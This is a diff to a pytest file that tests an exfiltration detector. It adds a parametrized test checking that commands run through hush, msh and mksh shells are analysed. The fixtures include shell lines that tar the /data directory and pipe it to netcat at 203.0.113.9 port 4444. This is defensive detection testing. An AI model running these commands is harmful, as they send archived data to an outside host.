@@ -161,6 +161,13 @@ def test_pipeline_in_shell_wrapper_links_archiver_to_uploader() -> None:
     assert found[1].destination.port == 4444
 
 
+@pytest.mark.parametrize("shell", ["/bin/hush", "/bin/msh", "/usr/bin/mksh"])
+def test_every_catalog_shell_line_is_analysed(shell: str) -> None:
+    # BusyBox's hush and msh are shells too: their -c line is a pipeline like sh's.
+    found = detector.signals(launch(f"{shell} -c 'tar czf - /data | nc 203.0.113.9 4444'"))
+    assert [s.kind for s in found] == [SignalKind.ARCHIVE, SignalKind.UPLOAD]
+
+
 def test_child_fed_by_parent_shell_pipe_counts_as_upload() -> None:
     event = launch(
         "nc 203.0.113.9 4444", parent_cmd="/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"
